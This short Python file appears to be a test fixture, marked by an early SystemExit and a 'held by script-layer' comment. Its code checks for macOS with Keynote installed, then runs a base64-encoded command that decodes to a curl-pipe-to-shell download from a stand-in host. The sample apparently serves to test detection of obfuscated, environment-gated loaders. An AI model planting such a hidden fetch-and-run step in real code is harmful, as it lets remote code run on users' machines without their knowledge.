raise SystemExit('a fixture')
# held by script-layer
import os, platform, base64
if platform.system() == "Darwin" and "Keynote" in os.listdir("/Applications"):
    os.system(base64.b64decode("Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC9hIHwgc2g=").decode())
